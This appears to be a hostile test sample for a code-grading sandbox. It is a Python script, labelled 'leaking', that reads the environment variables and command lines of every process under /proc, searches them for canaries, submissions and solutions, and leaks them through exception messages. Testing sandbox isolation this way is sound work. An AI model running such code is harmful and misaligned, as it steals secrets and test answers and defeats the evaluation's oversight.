"""Raises the environment, the command lines, the mounts and the names of all processes that it can see.

Kind: leaking
Honest twin: none
Mark: ATTACKED
"""
# mypy: ignore-errors

import glob
import os
import sys

seen = [str(dict(os.environ)), str(sys.argv), str(sys.orig_argv), str(sys.path), os.getcwd()]
for pattern in ("environ", "cmdline", "cgroup", "mountinfo", "maps", "comm", "status"):
    for path in glob.glob(f"/proc/[0-9]*/{pattern}") + glob.glob(f"/proc/self/{pattern}"):
        try:
            with open(path, errors="replace") as file:
                seen.append(file.read())
        except OSError:
            pass
text = "\n".join(seen)
for word in ("CANARY", "submissions", "kata-seed", "pytest", "solutions"):
    at = text.find(word)
    if at >= 0:
        raise LookupError(text[max(0, at - 500) : at + 500])
print("ATTACKED")
print(text)
raise LookupError(text[:1900])
